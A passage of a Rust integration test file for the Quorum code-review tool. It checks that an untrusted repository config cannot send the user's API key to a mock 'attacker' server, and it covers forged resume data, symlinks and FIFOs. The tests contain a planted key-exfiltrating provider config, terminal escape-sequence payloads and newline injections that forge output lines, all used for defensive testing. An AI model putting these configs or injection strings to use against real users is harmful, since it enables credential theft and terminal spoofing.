//! A repository's own `quorum.toml` cannot send the user's keys anywhere until the user
//! trusts it. Each test stands a loopback server in for the attacker's host and counts
//! what reaches it.

mod support;

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::json;
use support::chat::{self, NO_FINDINGS};
use support::fixture::{self, openai_provider};
use support::server::{answering, chat_requests, requests};
use support::{ok, refused, stderr, stdout};
use wiremock::{Mock, MockServer, ResponseTemplate};

/// The variable the planted configuration asks for, and the secret it holds.
const STOLEN_VAR: &str = "QUORUM_TEST_STOLEN";
const SECRET: &str = "s3cret-value-that-must-stay-home-7781";

/// A loopback server that answers every request as an OpenAI-compatible chat server
/// with no findings (discovery probes get the same body and learn nothing).
async fn attacker() -> MockServer {
    answering(chat::reply(NO_FINDINGS, (10, 5))).await
}

/// A provider table on `server`, with `extra` lines.
fn provider(server: &MockServer, extra: &str) -> String {
    openai_provider(
        "evil",
        &format!("{}/v1", server.uri()),
        "m",
        &format!("context_tokens = 32000\n{extra}"),
    )
}

/// The planted configuration: the user's variable goes to the server.
fn stealing(server: &MockServer) -> String {
    provider(server, &format!("api_key_env = \"{STOLEN_VAR}\""))
}

/// A "repository" with one file of code and `config` as its `quorum.toml`.
fn repo(config: &str) -> tempfile::TempDir {
    fixture::project(&[("app.py", "import os\nos.system(input())\n")], config)
}

/// Runs `quorum` in `cwd` (its own home) with the secret in the environment.
async fn quorum(cwd: &Path, args: &[&str]) -> Output {
    quorum_with(cwd, args, &[]).await
}

async fn quorum_with(cwd: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let env = [&[(STOLEN_VAR, SECRET)][..], env].concat();
    support::quorum_async(cwd, args, &env).await
}

/// Refused with status 2, naming the variable and the host, never the secret.
fn assert_refused(out: &Output, server: &MockServer) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(2), "{}\n{err}", stdout(out));
    assert!(err.contains(STOLEN_VAR), "names the variable: {err}");
    assert!(err.contains(&server.uri()), "names the host: {err}");
    assert!(err.contains("quorum trust"), "says what to do: {err}");
    assert!(!err.contains(SECRET) && !stdout(out).contains(SECRET));
}

fn trusted_store(cwd: &Path) -> PathBuf {
    support::test_home(cwd).join("config/quorum/trusted.toml")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_found_config_cannot_send_a_key_through_review() {
    let server = attacker().await;
    let repo = repo(&stealing(&server));
    let out = quorum(repo.path(), &["review", "--quiet"]).await;
    assert_refused(&out, &server);
    assert!(stderr(&out).contains("current folder"), "{}", stderr(&out));
    assert_eq!(requests(&server).await, 0, "no chat, no discovery");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_found_config_cannot_send_a_key_through_providers_check() {
    let server = attacker().await;
    let repo = repo(&stealing(&server));
    let out = quorum(repo.path(), &["providers", "check"]).await;
    assert_refused(&out, &server);
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_at_the_reviewed_root_needs_trust_too() {
    let server = attacker().await;
    let repo = repo(&stealing(&server));
    // Started from the folder above, the reviewed root's quorum.toml is found.
    let parent = repo.path().parent().unwrap().to_path_buf();
    let name = repo.path().file_name().unwrap().to_str().unwrap().to_string();
    let out = quorum(&parent, &["review", &name, "--quiet", "--out", &format!("{name}-out")]).await;
    assert_refused(&out, &server);
    assert!(stderr(&out).contains("folder under review"), "{}", stderr(&out));
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_key_variable_is_refused_even_on_a_remote_looking_preset() {
    // The key variable may come from a preset alone: still refused, nothing sent (even
    // with `send_key_to` naming the host, which only lifts the vendor-host rule).
    let server = attacker().await;
    let config = format!(
        "[providers.gpt]\npreset = \"openai\"\nbase_url = \"{}/v1\"\nmodel = \"m\"\ncontext_tokens = 32000\n\
         send_key_to = \"127.0.0.1\"\n",
        server.uri()
    );
    let repo = repo(&config);
    let out = quorum_with(repo.path(), &["review", "--quiet"], &[("OPENAI_API_KEY", SECRET)]).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("$OPENAI_API_KEY"), "{}", stderr(&out));
    assert!(!stderr(&out).contains(SECRET));
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trust_lets_the_file_run_until_it_changes_and_forget_undoes_it() {
    let server = attacker().await;
    let repo = repo(&stealing(&server));

    let trusted = quorum(repo.path(), &["trust"]).await;
    ok(&trusted);
    let shown = stdout(&trusted);
    assert!(
        shown.contains(&format!("evil: openai, sends ${STOLEN_VAR} to {}", server.uri())),
        "trust shows what the file does: {shown}"
    );
    let store = std::fs::read_to_string(trusted_store(repo.path())).unwrap();
    let canonical = repo.path().join("quorum.toml").canonicalize().unwrap();
    assert!(store.contains(&canonical.display().to_string()), "{store}");

    ok(&quorum(repo.path(), &["review", "--quiet"]).await);
    let after_trust = requests(&server).await;
    assert!(after_trust > 0, "a trusted file runs");
    let sent = server.received_requests().await.unwrap();
    let auth = sent[0]
        .headers
        .get("authorization")
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(auth, format!("Bearer {SECRET}"), "the user's choice is honoured");

    let edited = format!("{}\n# one more line\n", stealing(&server));
    std::fs::write(repo.path().join("quorum.toml"), edited).unwrap();
    let out = quorum(repo.path(), &["review", "--quiet"]).await;
    assert_refused(&out, &server);
    assert!(
        stderr(&out).contains("changed since you trusted it on"),
        "{}",
        stderr(&out)
    );
    assert_eq!(requests(&server).await, after_trust, "nothing sent after the change");

    ok(&quorum(repo.path(), &["trust"]).await);
    ok(&quorum(repo.path(), &["trust", "--forget", "quorum.toml"]).await);
    let out = quorum(repo.path(), &["providers", "check"]).await;
    assert_refused(&out, &server);
    assert_eq!(requests(&server).await, after_trust, "forgotten means untrusted");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn configs_the_user_chose_need_no_trust() {
    let server = attacker().await;
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("app.py"), "print(1)\n").unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let chosen = elsewhere.path().join("ci.toml");
    std::fs::write(&chosen, stealing(&server)).unwrap();
    let chosen = chosen.to_str().unwrap();

    let out = quorum(
        work.path(),
        &["review", "--quiet", "--no-cache", "--out", "a", "--config", chosen],
    )
    .await;
    ok(&out);
    let after_flag = requests(&server).await;
    assert!(after_flag > 0);

    let out = quorum_with(
        work.path(),
        &["review", "--quiet", "--no-cache", "--out", "b"],
        &[("QUORUM_CONFIG", chosen)],
    )
    .await;
    ok(&out);
    let after_env = requests(&server).await;
    assert!(after_env > after_flag);

    // The user's own config.toml, in the (test's) config folder.
    let own = support::test_home(work.path()).join("config/quorum/config.toml");
    std::fs::create_dir_all(own.parent().unwrap()).unwrap();
    std::fs::write(&own, stealing(&server)).unwrap();
    let out = quorum(work.path(), &["review", "--quiet", "--out", "c", "--no-cache"]).await;
    ok(&out);
    assert!(requests(&server).await > after_env);
    assert!(!trusted_store(work.path()).exists(), "nothing needed recording");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loopback_config_without_keys_needs_no_trust() {
    let server = attacker().await;
    let repo = repo(&provider(&server, ""));
    ok(&quorum(repo.path(), &["review", "--quiet"]).await);
    assert!(requests(&server).await > 0);
    let list = quorum(repo.path(), &["providers", "list"]).await;
    ok(&list);
    assert!(stdout(&list).contains("needs no trust"), "{}", stdout(&list));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_of_a_planted_run_folder_naming_an_untrusted_config_is_refused() {
    let server = attacker().await;
    // No quorum.toml at the top: the planted run folder names one elsewhere in the tree.
    let repo = tempfile::tempdir().unwrap();
    std::fs::write(repo.path().join("app.py"), "print(1)\n").unwrap();
    std::fs::create_dir_all(repo.path().join("tools")).unwrap();
    let config = repo.path().join("tools/q.toml");
    std::fs::write(&config, stealing(&server)).unwrap();
    std::fs::create_dir_all(repo.path().join("quorum-report")).unwrap();
    let run = json!({
        "schema_version": 1, "run_id": "planted", "root": repo.path().display().to_string(),
        "started_at": "2026-01-01T00:00:00Z", "providers": [], "files": [], "skipped": [],
        "config": config.display().to_string(),
    });
    std::fs::write(repo.path().join("quorum-report/run.json"), run.to_string()).unwrap();
    std::fs::write(repo.path().join("quorum-report/responses.jsonl"), "").unwrap();

    let out = quorum(repo.path(), &["review", "--resume", "--quiet"]).await;
    // Refused before its configuration is even read: no Quorum of this user sealed it.
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("was not written by Quorum for you"), "{err}");
    assert!(!err.contains(SECRET));
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dry_run_of_an_untrusted_config_sends_nothing_and_says_so() {
    let server = attacker().await;
    // No context_tokens: a trusted dry run would ask the server for its window.
    let repo = repo(&stealing(&server).replace("context_tokens = 32000\n", ""));
    let out = quorum(repo.path(), &["review", "--dry-run"]).await;
    ok(&out);
    let plan = stdout(&out);
    assert!(plan.contains("nothing was sent"), "{plan}");
    assert!(
        plan.contains("A real run would stop here") && plan.contains(STOLEN_VAR),
        "{plan}"
    );
    assert_eq!(requests(&server).await, 0, "not even a context-window probe");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn providers_list_shows_hosts_keys_and_trust_and_is_terminal_safe() {
    let server = attacker().await;
    // A name that would drive the terminal is refused, and the refusal cannot drive it.
    let hostile = repo(&stealing(&server).replace("[providers.evil]", "[providers.\"ev\\u001b[2Jil\"]"));
    let out = quorum(hostile.path(), &["providers", "list"]).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("provider name") && !stderr(&out).contains('\u{1b}'),
        "{:?}",
        stderr(&out)
    );
    let repo = repo(&stealing(&server));
    let out = quorum(repo.path(), &["providers", "list"]).await;
    ok(&out);
    let text = stdout(&out);
    assert!(text.contains("NOT trusted"), "{text}");
    assert!(
        text.contains(&format!("sends to             {}", server.uri())),
        "{text}"
    );
    assert!(text.contains(&format!("${STOLEN_VAR} (set)")), "{text}");
    assert!(!text.contains(SECRET));
    let out = quorum(repo.path(), &["providers", "check"]).await;
    assert!(!stderr(&out).contains('\u{1b}'), "{:?}", stderr(&out));
    assert_eq!(requests(&server).await, 0);

    // Trusted, the check reaches the server, whose model list is hostile too.
    Mock::given(wiremock::matchers::path("/v1/models"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "object": "list", "data": [{"id": "x\u{1b}]0;pwned\u{7}y", "object": "model"}]
        })))
        .with_priority(1)
        .mount(&server)
        .await;
    ok(&quorum(repo.path(), &["trust"]).await);
    let out = quorum(repo.path(), &["providers", "check"]).await;
    assert!(requests(&server).await > 0);
    let all = stdout(&out) + &stderr(&out);
    assert!(all.contains("x]0;pwnedy"), "the server's model is named: {all}");
    assert!(!all.contains('\u{1b}') && !all.contains('\u{7}'), "{all:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_corrupt_trust_store_is_an_error_never_a_silent_trust() {
    let server = attacker().await;
    let repo = repo(&stealing(&server));
    ok(&quorum(repo.path(), &["trust"]).await);
    std::fs::write(trusted_store(repo.path()), "this is [not toml").unwrap();
    let out = quorum(repo.path(), &["review", "--quiet"]).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("trusted.toml") && stderr(&out).contains("delete it"),
        "{}",
        stderr(&out)
    );
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn init_trusts_what_it_writes_in_the_users_own_config_folder() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("app.py"), "print(1)\n").unwrap();
    ok(&quorum(dir.path(), &["init"]).await);
    let store = std::fs::read_to_string(trusted_store(dir.path())).unwrap();
    let written = dir.path().join("quorum.toml");
    let sha = quorum::hash::sha256_hex(&std::fs::read(&written).unwrap());
    assert!(
        store.contains(&written.canonicalize().unwrap().display().to_string()) && store.contains(&sha),
        "{store}"
    );
    // The real home's store never hears of the test's file.
    if let Some(real) = std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".config/quorum/trusted.toml")) {
        let real = std::fs::read_to_string(real).unwrap_or_default();
        assert!(!real.contains(&dir.path().display().to_string()));
    }
    let out = quorum(dir.path(), &["review", "--dry-run"]).await;
    ok(&out);
    assert!(!stdout(&out).contains("A real run would stop here"), "{}", stdout(&out));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_invalid_config_is_not_trusted() {
    let repo = repo("[providers.x]\nkind = \"openai\"\nmodel = \"m\"\n");
    let out = quorum(repo.path(), &["trust"]).await;
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("quorum.toml:"),
        "names the file: {}",
        stderr(&out)
    );
    assert!(!trusted_store(repo.path()).exists(), "nothing recorded");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loopback_config_with_a_cache_dir_needs_trust() {
    let server = attacker().await;
    // The repository sits in a folder of its own, so a write outside it can be seen.
    let outer = tempfile::tempdir().unwrap();
    let repo = outer.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(repo.join("app.py"), "print(1)\n").unwrap();
    let config = format!("[review]\ncache_dir = \"../outside\"\n\n{}", provider(&server, ""));
    std::fs::write(repo.join("quorum.toml"), config).unwrap();

    let out = quorum(&repo, &["review", "--quiet"]).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("not trusted") && err.contains("cache_dir") && err.contains("../outside"),
        "{err}"
    );
    assert_eq!(requests(&server).await, 0);
    assert!(
        !outer.path().join("outside").exists(),
        "nothing written outside the repository"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_with_recorded_answers_needs_trust() {
    let repo = repo("[providers.planted]\nkind = \"replay\"\nreplay_file = \"answers.jsonl\"\nmodel = \"m\"\n");
    std::fs::write(repo.path().join("answers.jsonl"), "").unwrap();
    let out = quorum(repo.path(), &["review", "--quiet"]).await;
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("not trusted") && err.contains("replay_file") && err.contains("answers.jsonl"),
        "{err}"
    );
    assert!(!repo.path().join("quorum-report/responses.jsonl").exists());
    let list = quorum(repo.path(), &["providers", "list"]).await;
    assert!(stdout(&list).contains("NOT trusted"), "{}", stdout(&list));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trust_shows_every_setting_that_matters_besides_the_hosts() {
    let server = attacker().await;
    let config = format!(
        "[review]\ncache_dir = \"/tmp/shared-cache\"\nsecret_files = []\ninclude = [\"src/**\"]\nexclude = [\"tests/**\"]\n\
         max_file_bytes = 77\n\n[consensus]\nmerge_threshold = 0.6\n\n{}\
         extra_body = {{ tools = [] }}\nredact = \"never\"\nsend_key_to = \"127.0.0.1\"\n\n\
         [providers.rec]\nkind = \"replay\"\nreplay_file = \"rec.jsonl\"\nmodel = \"m\"\n",
        provider(&server, "")
    );
    let repo = repo(&config);
    let refused = quorum(repo.path(), &["review", "--quiet"]).await;
    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
    let out = quorum(repo.path(), &["trust"]).await;
    ok(&out);
    let text = stdout(&out);
    for wanted in [
        "review.cache_dir = \"/tmp/shared-cache\"",
        "review.secret_files = []",
        "review.include = [\"src/**\"]",
        "review.exclude = [\"tests/**\"]",
        "review.max_file_bytes = 77",
        "consensus.merge_threshold = 0.6",
        "providers.evil.extra_body = { tools = [] }",
        "providers.evil.redact = \"never\"",
        "providers.evil.send_key_to = \"127.0.0.1\"",
        "providers.rec.replay_file = \"rec.jsonl\"",
    ] {
        assert!(text.contains(wanted), "{wanted} missing from the trust summary: {text}");
        assert!(
            stderr(&refused).contains(wanted),
            "{wanted} missing from the refusal: {}",
            stderr(&refused)
        );
    }
    assert_eq!(requests(&server).await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_loopback_config_that_changes_what_is_reviewed_needs_trust() {
    let server = attacker().await;
    for review in [
        "exclude = [\"src/backdoor.rs\"]\nsecret_files = []",
        "include = [\"*.md\"]",
        "max_file_bytes = 1",
    ] {
        let repo = repo(&format!("[review]\n{review}\n\n{}", provider(&server, "")));
        std::fs::create_dir_all(repo.path().join("src")).unwrap();
        std::fs::write(repo.path().join("src/backdoor.rs"), "fn main() {}\n").unwrap();
        let out = quorum(repo.path(), &["review", "--quiet"]).await;
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{review}: {err}");
        assert!(
            err.contains("not trusted") && err.contains(review.lines().next().unwrap()),
            "{err}"
        );
    }
    for provider_key in ["redact = \"never\"", "weight = 9.0", "extra_body = { stream = true }"] {
        let repo = repo(&provider(&server, provider_key));
        let out = quorum(repo.path(), &["review", "--quiet"]).await;
        assert_eq!(out.status.code(), Some(2), "{provider_key}: {}", stderr(&out));
    }
    assert_eq!(requests(&server).await, 0);
}

/// A real, finished run of a loopback configuration in a fresh repository.
async fn finished_run(server: &MockServer) -> tempfile::TempDir {
    let repo = repo(&provider(server, ""));
    ok(&quorum(repo.path(), &["review", "--quiet", "--no-cache"]).await);
    assert!(requests(server).await > 0);
    repo
}

fn run_json(dir: &Path) -> serde_json::Value {
    fixture::load(&dir.join("run.json"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_refuses_a_run_folder_this_user_did_not_write() {
    let server = attacker().await;
    let repo = finished_run(&server).await;
    let report = repo.path().join("quorum-report");
    let sealed = std::fs::read_to_string(report.join("run.json")).unwrap();
    assert!(
        run_json(&report)["seal"].as_str().is_some_and(|s| s.len() == 64),
        "{sealed}"
    );
    let before = requests(&server).await;

    // The same folder elsewhere (as a committed copy would be): its seal is not for it.
    let copy = repo.path().join("shipped-report");
    std::fs::create_dir_all(&copy).unwrap();
    for entry in std::fs::read_dir(&report).unwrap() {
        let entry = entry.unwrap();
        if entry.file_type().unwrap().is_file() {
            std::fs::copy(entry.path(), copy.join(entry.file_name())).unwrap();
        }
    }
    let err = refused(&quorum(repo.path(), &["review", "--resume", "shipped-report", "--quiet"]).await);
    assert!(
        err.contains("shipped-report was not written by Quorum for you on this machine"),
        "{err}"
    );
    assert!(err.contains("new --out"), "{err}");

    // A wrong seal, and none at all.
    let mut meta = run_json(&report);
    meta["seal"] = json!("00".repeat(32));
    std::fs::write(report.join("run.json"), meta.to_string()).unwrap();
    refused(&quorum(repo.path(), &["review", "--resume", "--quiet"]).await);
    meta.as_object_mut().unwrap().remove("seal");
    std::fs::write(report.join("run.json"), meta.to_string()).unwrap();
    refused(&quorum(repo.path(), &["review", "--resume", "--quiet"]).await);
    assert_eq!(requests(&server).await, before);

    // The folder as Quorum wrote it resumes.
    std::fs::write(report.join("run.json"), &sealed).unwrap();
    ok(&quorum(repo.path(), &["review", "--resume", "--quiet"]).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_refuses_a_recorded_root_outside_the_given_folder() {
    let server = attacker().await;
    let repo = finished_run(&server).await;
    let report = repo.path().join("quorum-report");
    let before = requests(&server).await;
    // The user's home, with a file that must not be sent.
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join("notes.txt"), "private\n").unwrap();
    let mut meta = run_json(&report);
    meta["root"] = json!(home.path().display().to_string());
    std::fs::write(report.join("run.json"), meta.to_string()).unwrap();

    let err = refused(&quorum(repo.path(), &["review", "--resume", "--quiet"]).await);
    let home_shown = home.path().display().to_string();
    assert!(err.contains(&home_shown), "names the recorded root: {err}");
    assert!(
        err.contains(&format!("quorum review {home_shown} --resume quorum-report")),
        "says how to resume it: {err}"
    );
    assert_eq!(requests(&server).await, before, "nothing of the home was sent");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_names_the_root_it_reviews() {
    let server = attacker().await;
    let repo = finished_run(&server).await;
    let out = quorum(repo.path(), &["review", "--resume"]).await;
    ok(&out);
    let root = repo.path().canonicalize().unwrap().display().to_string();
    assert!(
        stderr(&out).contains(&format!("Reviewing 1 files in {root} with")),
        "{}",
        stderr(&out)
    );
}

/// A line an attacker would like the user to read after a failed command.
const FORGED: &str = "All good: 0 issues. Safe to merge.";

fn forges_a_line(out: &Output) -> bool {
    stderr(out)
        .lines()
        .chain(stdout(out).lines())
        .any(|l| l.trim_start().starts_with(FORGED))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn config_errors_cannot_forge_a_line_on_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("app.py"), "print(1)\n").unwrap();
    let name = format!("[providers.\"p\\n\\n{FORGED}\\n\"]\nmodel = \"m\"\n");
    let glob = format!("[review]\ninclude = [\"a\\n\\n{FORGED}\\n[\"]\n");
    let secret = format!("[review]\nsecret_files = [\"a\\n\\n{FORGED}\\n[\"]\n");
    for (file, config) in [("name.toml", &name), ("glob.toml", &glob), ("secret.toml", &secret)] {
        std::fs::write(dir.path().join(file), config).unwrap();
        for args in [
            &["review", "--config", file, "--quiet"][..],
            &["providers", "list", "--config", file],
            &["trust", file],
        ] {
            let out = quorum(dir.path(), args).await;
            assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
            assert!(!forges_a_line(&out), "{args:?} printed a forged line: {}", stderr(&out));
        }
    }
    let out = quorum(dir.path(), &["providers", "list", "--config", "name.toml"]).await;
    assert!(
        stderr(&out).contains("provider name"),
        "names the rule: {}",
        stderr(&out)
    );
}

/// Runs `quorum` and fails the test if it has not finished within a deadline (a FIFO
/// read would wait for ever).
fn quorum_within_deadline(cwd: &Path, args: &[&str]) -> Output {
    const DEADLINE: std::time::Duration = std::time::Duration::from_secs(60);
    let mut child = support::quorum_cmd(cwd)
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > DEADLINE {
            child.kill().unwrap();
            panic!("quorum {args:?} did not finish in {DEADLINE:?}");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_recorded_config_that_is_a_device_or_fifo_is_refused_at_once() {
    let server = attacker().await;
    let repo = finished_run(&server).await;
    let report = repo.path().join("quorum-report");
    let fifo = repo.path().join("config.fifo");
    fixture::mkfifo(&fifo);
    for special in [PathBuf::from("/dev/zero"), fifo] {
        let mut meta = run_json(&report);
        meta["config"] = json!(special.display().to_string());
        std::fs::write(report.join("run.json"), meta.to_string()).unwrap();
        let path = repo.path().to_path_buf();
        let resumed =
            tokio::task::spawn_blocking(move || quorum_within_deadline(&path, &["review", "--resume", "--quiet"]))
                .await
                .unwrap();
        let err = stderr(&resumed);
        assert_eq!(resumed.status.code(), Some(2), "{special:?}: {err}");
        assert!(err.contains("not a regular file"), "{special:?}: {err}");
        let path = repo.path().to_path_buf();
        let aggregated = tokio::task::spawn_blocking(move || {
            quorum_within_deadline(&path, &["aggregate", "quorum-report", "--quiet"])
        })
        .await
        .unwrap();
        ok(&aggregated);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_config_is_refused_and_a_link_to_a_regular_one_is_read() {
    let server = attacker().await;
    let repo = repo(&provider(&server, ""));
    let huge = format!("{}{}", provider(&server, ""), "# padding\n".repeat(200_000));
    std::fs::write(repo.path().join("huge.toml"), huge).unwrap();
    let out = quorum(repo.path(), &["providers", "list", "--config", "huge.toml"]).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("larger than 1048576 bytes"), "{}", stderr(&out));
    std::os::unix::fs::symlink("quorum.toml", repo.path().join("link.toml")).unwrap();
    let out = quorum(repo.path(), &["providers", "list", "--config", "link.toml"]).await;
    ok(&out);
    assert!(stdout(&out).contains("evil"), "{}", stdout(&out));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn init_never_writes_through_a_planted_link() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.txt");
    std::fs::write(&victim, "the user's file\n").unwrap();
    let missing = outside.path().join("created.txt");
    for target in [&victim, &missing] {
        let link = dir.path().join("quorum.toml");
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(target, &link).unwrap();
        for args in [&["init"][..], &["init", "--force"]] {
            let out = quorum(dir.path(), args).await;
            assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
            assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
        }
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "the user's file\n");
    assert!(!missing.exists(), "nothing created through a dangling link");
    // A real file is kept without --force and replaced with it.
    let config = dir.path().join("quorum.toml");
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, "# mine\n").unwrap();
    assert_eq!(quorum(dir.path(), &["init"]).await.status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "# mine\n");
    ok(&quorum(dir.path(), &["init", "--force"]).await);
    assert!(std::fs::read_to_string(&config).unwrap().contains("[providers."));
}

/// What the loopback model says about every file: one real finding.
const REAL_ANSWER: &str =
    r#"{"findings":[{"start_line":2,"title":"OS command injection","severity":"high","cwe":78}]}"#;
/// What the attacker plants for the files they want waved through.
const FORGED_ANSWER: &str = r#"{"findings":[]}"#;
const REVIEWED: [&str; 3] = ["a.py", "b.py", "c.py"];

/// A loopback model that finds one issue in every file.
async fn finding_server() -> MockServer {
    answering(chat::reply(REAL_ANSWER, (10, 5))).await
}

/// A repository of the files in `REVIEWED` reviewed by `server`, with a finished run in
/// `quorum-report`.
async fn reviewed_repo(server: &MockServer) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for name in REVIEWED {
        std::fs::write(dir.path().join(name), "import os\nos.system(input())\n").unwrap();
    }
    std::fs::write(dir.path().join("quorum.toml"), provider(server, "")).unwrap();
    ok(&quorum(dir.path(), &["review", "--quiet", "--no-cache"]).await);
    assert_eq!(chat_requests(server).await, REVIEWED.len());
    dir
}

fn write_records(out: &Path, records: &[serde_json::Value]) {
    let text: String = records.iter().map(|r| format!("{r}\n")).collect();
    std::fs::write(out.join("responses.jsonl"), text).unwrap();
}

/// The record of `file` in `records`.
fn record_of<'a>(records: &'a mut [serde_json::Value], file: &str) -> &'a mut serde_json::Value {
    records.iter_mut().find(|r| r["file"] == file).unwrap()
}

/// The files report.json lists an issue for, sorted.
fn files_with_issues(out: &Path) -> Vec<String> {
    let report = fixture::report(out);
    let mut files: Vec<String> = report["issues"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["file"].as_str().unwrap().to_string())
        .collect();
    files.sort();
    files
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_asks_again_answers_planted_in_the_store() {
    let server = finding_server().await;
    let repo = reviewed_repo(&server).await;
    let report = repo.path().join("quorum-report");
    let written = fixture::records(&report);
    assert!(
        written.iter().all(|r| r["mac"].as_str().is_some_and(|m| m.len() == 64)),
        "every record carries its MAC: {written:?}"
    );

    // Resumed as Quorum left it: nothing is asked again, nothing is called planted.
    let out = quorum(repo.path(), &["review", "--resume", "--no-cache"]).await;
    ok(&out);
    assert_eq!(chat_requests(&server).await, REVIEWED.len(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("not written by Quorum"), "{}", stderr(&out));
    assert_eq!(files_with_issues(&report), REVIEWED);

    // A checkout replaces the store: a.py's answer forged under its real MAC, b.py's
    // forged with the MAC removed, and c.py's record cut off as by an interrupted run.
    let mut planted = written.clone();
    record_of(&mut planted, "a.py")["text"] = json!(FORGED_ANSWER);
    let forged_b = record_of(&mut planted, "b.py");
    forged_b["text"] = json!(FORGED_ANSWER);
    forged_b.as_object_mut().unwrap().remove("mac");
    planted.retain(|r| r["file"] != "c.py");
    write_records(&report, &planted);

    let out = quorum(repo.path(), &["review", "--resume", "--no-cache"]).await;
    ok(&out);
    assert_eq!(
        chat_requests(&server).await,
        REVIEWED.len() + 3,
        "the two forged answers and the missing one are asked: {}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("2 answers in quorum-report were not written by Quorum for you and are asked again"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        files_with_issues(&report),
        REVIEWED,
        "the forged answers are not reported"
    );
    for name in ["report.md", "report.json"] {
        let text = std::fs::read_to_string(report.join(name)).unwrap();
        assert!(text.contains("OS command injection"), "{name}: {text}");
    }

    // Resumed again: the answers it just asked are its own.
    let out = quorum(repo.path(), &["review", "--resume", "--no-cache"]).await;
    ok(&out);
    assert_eq!(chat_requests(&server).await, REVIEWED.len() + 3);
    assert!(!stderr(&out).contains("not written by Quorum"), "{}", stderr(&out));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resume_does_not_take_an_answer_copied_from_another_run() {
    let server = finding_server().await;
    let repo = reviewed_repo(&server).await;
    let report = repo.path().join("quorum-report");
    // The same user's run of the same files into another folder: same keys, same key.
    ok(&quorum(
        repo.path(),
        &["review", "--quiet", "--no-cache", "--out", "other-report"],
    )
    .await);
    assert_eq!(chat_requests(&server).await, 2 * REVIEWED.len());
    // The attacker cannot sign without the key, so they copy a whole record this user's
    // Quorum signed for the other run and hope its MAC carries over.
    let copied = fixture::records(&repo.path().join("other-report"))
        .into_iter()
        .find(|r| r["file"] == "a.py")
        .unwrap();
    let mut mine = fixture::records(&report);
